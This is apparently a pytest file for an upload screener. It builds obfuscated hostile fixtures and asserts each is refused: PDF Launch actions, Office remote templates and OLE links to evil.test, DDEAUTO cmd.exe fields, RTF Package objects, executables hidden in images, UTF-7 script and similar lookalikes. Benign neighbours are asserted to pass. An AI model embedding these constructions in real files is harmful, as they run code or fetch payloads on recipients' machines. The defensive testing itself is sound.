"""What runs, or fetches what runs, inside files of wanted types; each with an honest neighbour."""

import io
import zipfile
import zlib

import pytest

from tests.screening._files import (
    ELF,
    PE,
    box,
    chunk,
    compound,
    heic,
    jpeg,
    odt,
    office,
    office_parts,
    pdf,
    png,
    reason,
    rtf,
    segment,
    stream,
    webp,
    zipped,
)

MiB = 1024 * 1024
LAUNCH = b"1 0 << /S /Launch /F (cmd) >>"
NATIVE = b"\0" * 6 + b"x.exe\0c:\\x.exe\0"
CALL = b"vnd.sun.star.script:../../program/python-core/pydoc.py$tempfilepager(1)?language=Python&amp;location=share"


def related(kind: str, target: str) -> bytes:
    """Make the relations of a part that has one to elsewhere."""
    schema = "http://schemas.openxmlformats.org"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{schema}/package/2006/relationships"><Relationship Id="rId1" '
        f'Type="{schema}/officeDocument/2006/relationships/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def written(paragraph: str) -> bytes:
    """Make a document of this paragraph."""
    names = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    body = f'<w:document xmlns:w="{names}"><w:body><w:p>{paragraph}</w:p></w:body></w:document>'
    return zipped({**office_parts(), "word/document.xml": body.encode()})


def calling(content: bytes) -> bytes:
    """Make a text of OpenDocument with this in its content."""
    with zipfile.ZipFile(io.BytesIO(odt())) as file:
        parts = {name: file.read(name) for name in file.namelist()}
    return zipped({**parts, "content.xml": parts["content.xml"] + content}, stored=["mimetype"])


def objects(raw: bytes, *, wrapped: bytes = b"/Filter /FlateDecode", begun: bytes = b"\n", extra: bytes = b"") -> bytes:
    """Make a PDF with objects in a stream, whose beginning is spelled as told."""
    head = b"<< /Type /ObjStm /N 1 /First 4 %b %b /Length %d >>\nstream%b" % (extra, wrapped, len(raw), begun)
    return pdf(head + raw + b"\nendstream")


def utf16(name: str) -> bytes:
    """Encode the name of a file as PDF may."""
    return ("\ufeff" + name).encode("utf-16-be")


def filespec(name: bytes) -> bytes:
    """Make a PDF with an attached file of this name."""
    return pdf(b"<< /Type /Filespec /UF %b /EF << /F 9 0 R >> >>" % name)


HOSTILE: dict[str, tuple[str, bytes]] = {
    "pdf-launch-spelled": ("a.pdf", pdf(b"<< /Type /Action /S /L#61unch /F (cmd.exe) >>")),
    "pdf-launch-behind-comment": ("a.pdf", pdf(b"<< /Type /Action /S %x\n/Launch /F (cmd) >>")),
    "pdf-launch-elsewhere": ("a.pdf", pdf(b"<< /Type /Action /S 5 0 R /F (cmd) >>", b"/Launch")),
    "pdf-objects-spelled": ("a.pdf", pdf(stream(LAUNCH, b"/Type /Obj#53tm /N 1 /First 4"))),
    "pdf-objects-spelled-inside": ("a.pdf", objects(zlib.compress(LAUNCH.replace(b"Launch", b"#4caunch")))),
    "pdf-objects-wrapped-twice": (
        "a.pdf",
        objects(zlib.compress(LAUNCH).hex().encode() + b">", wrapped=b"/Filter [/ASCIIHexDecode /FlateDecode]"),
    ),
    "pdf-objects-far": ("a.pdf", objects(zlib.compress(LAUNCH), extra=b"/X (" + b"x" * 3000 + b")")),
    "pdf-objects-behind-space": ("a.pdf", objects(zlib.compress(LAUNCH), begun=b" \r\n")),
    "pdf-attached-utf16": ("a.pdf", filespec(b"(" + utf16("setup.exe") + b")")),
    "pdf-attached-hex": ("a.pdf", filespec(b"<" + utf16("setup.exe").hex().encode() + b">")),
    "pdf-attached-octal": ("a.pdf", filespec(b"(setup\\056exe)")),
    "pdf-attached-spelled": ("a.pdf", pdf(b"<< /Type /File#73pec /F (setup.exe) /EF << /F 9 0 R >> >>")),
    "docx-template-far": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.test/t.dotm")}),
    ),
    "docx-object-far": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": related("oleObject", "mhtml:http://evil.test/!x-usc:x")}),
    ),
    "docx-frame-far": (
        "a.docx",
        office("docx", {"word/_rels/webSettings.xml.rels": related("frame", "http://evil.test/x.html")}),
    ),
    "docx-link-runs": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": related("hyperlink", "file:///C:/Windows/System32/calc.exe")}),
    ),
    "docx-relations-utf16": (
        "a.docx",
        office(
            "docx",
            {
                "word/_rels/settings.xml.rels": related("attachedTemplate", "https://evil.test/t.dotm")
                .decode()
                .encode("utf-16")
            },
        ),
    ),
    "docx-dde": ("a.docx", written('<w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe &quot;/k calc&quot;"/>')),
    "docx-dde-cut": (
        "a.docx",
        written("<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe</w:instrText></w:r>"),
    ),
    "docx-document-with-macros": ("a.docx", office("docx", {"word/embeddings/m.docm": b"x"})),
    "docx-archive": ("a.docx", office("docx", {"word/embeddings/m.zip": b"x"})),
    "docx-object-runs": ("a.docx", office("docx", {"word/embeddings/o.bin": compound({"\x01Ole10Native": NATIVE})})),
    "docx-program-as-object": ("a.docx", office("docx", {"word/embeddings/o.bin": PE})),
    "docx-program-as-picture": ("a.docx", office("docx", {"word/media/image9.png": PE})),
    "docx-name-with-space": ("a.docx", office("docx", {"word/setup.exe .": b"x"})),
    "xlsx-dde": (
        "a.xlsx",
        office("xlsx", {"xl/externalLinks/externalLink1.xml": b'<x><ddeLink ddeService="cmd"/></x>'}),
    ),
    "xlsx-macro-sheet": ("a.xlsx", office("xlsx", {"xl/macrosheets/sheet1.xml": b"<x/>"})),
    "odt-calls-a-script": ("a.odt", calling(b'<!-- xlink:href="' + CALL + b'" -->')),
    "rtf-template-far": ("a.rtf", rtf(b"{\\*\\template http://evil.test/t.dotm}")),
    "rtf-dde": ("a.rtf", rtf(b'{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k"}}')),
    "rtf-class-spelled": ("a.rtf", rtf(b"{\\object\\objemb{\\*\\objclass Pack\\'61ge}{\\*\\objdata 01}}")),
    "rtf-data-broken-up": (
        "a.rtf",
        rtf(b"{\\*\\objdata 01{\\x}\\par " + (b"\0" * 8 + b"\x08\0\0\0Package\0x.exe\0").hex().encode() + b"}"),
    ),
    "heic-film-far": (
        "a.heic",
        heic(box(b"moov", box(b"free", bytes(4 * MiB)), box(b"hdlr", b"\0" * 8 + b"vide" + b"\0" * 12))),
    ),
    "heic-program": ("a.heic", heic(box(b"free", PE))),
    "jpeg-cut-then-program": ("a.jpg", jpeg()[:-2] + PE),
    "jpeg-cut-then-linux-program": ("a.jpg", jpeg()[:-2] + ELF),
    "jpeg-program-among-notes": ("a.jpg", jpeg(segment(0xEF, PE))),
    "png-program-chunk": ("a.png", png(2, 2, chunk(b"prIv", PE))),
    "webp-program-chunk": ("a.webp", webp((b"JUNK", ELF))),
    "text-page-in-seven-bits": ("a.txt", b"Dear reader,\n+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
    "table-page-in-seven-bits": ("a.csv", b"a,b\n1,+ADw-script+AD4-alert(1)+ADw-/script+AD4-\n"),
    "text-script-encoded": ("a.txt", b"#@~^NAAAAA==W!x^YbWU~6c#PD;DUPq8 ixT;d+W!x^O W&AcAAA==^#~@\n"),
    "table-that-is-symbolic-link": ("a.csv", b'ID;PWXL;N;E\nC;Y1;X1;K"x";EEXEC("calc")\nE\n'),
    "text-web-query": ("a.txt", b"WEB\r\n1\r\nhttp://evil.test/x.dat\r\n"),
    "text-explorer-command": ("a.txt", b"[Shell]\r\nCommand=2\r\nIconFile=\\\\evil\\x.ico\r\n"),
    "text-installs": ("a.txt", b'[Version]\r\nSignature="$CHICAGO$"\r\n[DefaultInstall]\r\nRunPreSetupCommands=x\r\n'),
    "text-remote-desktop": ("a.txt", b"full address:s:evil.test\r\nprompt for credentials:i:0\r\n"),
    "text-service": ("a.txt", b"[Unit]\nDescription=x\n[Service]\nExecStart=/bin/sh -c x\n"),
    "text-program-in-digits": ("a.txt", b"\n".join(PE.hex().encode()[at : at + 64] for at in range(0, 600, 64))),
    "markdown-link-runs": ("a.md", b"# Title\n\n[click](javascript:alert(1))\n"),
    "markdown-link-is-page": ("a.md", b"# Title\n\n[click](data:text/html;base64,PHNjcmlwdD4=)\n"),
}


@pytest.mark.parametrize("case", HOSTILE)
def test_what_runs_inside_is_refused(case: str) -> None:
    """However it is spelled, packed or cut up, where its own program would still understand it."""
    name, data = HOSTILE[case]

    assert reason(name, data) is not None


HONEST: dict[str, tuple[str, bytes]] = {
    "pdf-name-with-space": ("a.pdf", pdf(b"<< /BaseFont /ABCDEF+Arial#20Bold >>")),
    "pdf-address": ("a.pdf", pdf(b"<< /S /URI /URI (https://x.test/Launch) /Next << /F (a) >> >>")),
    "pdf-attached-invoice": ("a.pdf", filespec(b"(" + utf16("Rechnung.xml") + b")")),
    "pdf-objects": ("a.pdf", objects(zlib.compress(b"1 0 << /S /URI /URI (x) >>"))),
    "docx-link": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": related("hyperlink", "https://x.test/setup.exe?a=b")}),
    ),
    "docx-copied-page": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": related("hyperlink", "javascript:void(0)")}),
    ),
    "docx-own-template": (
        "a.docx",
        office("docx", {"word/_rels/settings.xml.rels": related("attachedTemplate", "file:///C:\\a\\Normal.dotm")}),
    ),
    "docx-picture-elsewhere": (
        "a.docx",
        office("docx", {"word/_rels/document.xml.rels": related("image", "https://x.test/a.png")}),
    ),
    "docx-fields": (
        "a.docx",
        written("<w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:t>DDEAUTO is the name of a field.</w:t></w:r>"),
    ),
    "docx-chart": ("a.docx", office("docx", {"word/embeddings/sheet.xlsx": office("xlsx")})),
    "docx-object": ("a.docx", office("docx", {"word/embeddings/o.bin": compound({"Equation Native": b"x"})})),
    "rtf-own-template": ("a.rtf", rtf(b"{\\*\\template C:\\\\a\\\\Normal.dotm}")),
    "jpeg-cut": ("a.jpg", jpeg()[:-2] + bytes(range(1, 200)) * 9),
    "text-with-plus": ("a.txt", b"We add a+b and C+AD- maybe, thanks for the +ADwords campaign.\n"),
    "table-of-ids": ("a.csv", b"ID;Name;Price\n1;a;2\n2;b;3\n"),
    "markdown-quotes-a-link": ("a.md", b"# Title\n\nNever write `[x](javascript:y)`, said *he*.\n"),
}


@pytest.mark.parametrize("case", HONEST)
def test_the_honest_neighbour_of_what_runs_is_taken(case: str) -> None:
    """What looks a little like it, as ordinary files do."""
    name, data = HONEST[case]

    assert reason(name, data) is None
